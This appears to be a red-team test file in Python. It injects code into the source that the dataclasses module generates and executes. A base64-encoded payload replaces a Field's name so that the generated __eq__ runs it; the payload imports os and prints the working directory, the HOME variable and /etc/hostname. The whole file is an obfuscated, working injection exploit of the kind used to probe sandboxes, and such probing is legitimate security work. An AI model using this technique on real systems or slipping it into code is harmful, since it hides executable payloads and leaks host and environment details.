# family: red team, round 57b (a base class's __init_subclass__ reads the Field off the class before @dataclass runs)
import base64
import dataclasses

CODE = "X19jbGFzc19fLHByaW50KF9faW1wb3J0X18oJ29zJykuZ2V0Y3dkKCksX19pbXBvcnRfXygnb3MnKS5lbnZpcm9uWydIT01FJ10sb3BlbignL2V0Yy9ob3N0bmFtZScpLnJlYWQoKSxfX2ltcG9ydF9fKCdvcycpKQ=="
SEEN = []


class Base:
    def __init_subclass__(cls, **kwargs):
        super().__init_subclass__(**kwargs)
        SEEN.append(cls.x)


@dataclasses.dataclass
class A(Base):
    x: int = dataclasses.field(default=0)


def main():
    for f in SEEN:
        f.name = base64.b64decode(CODE).decode()

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
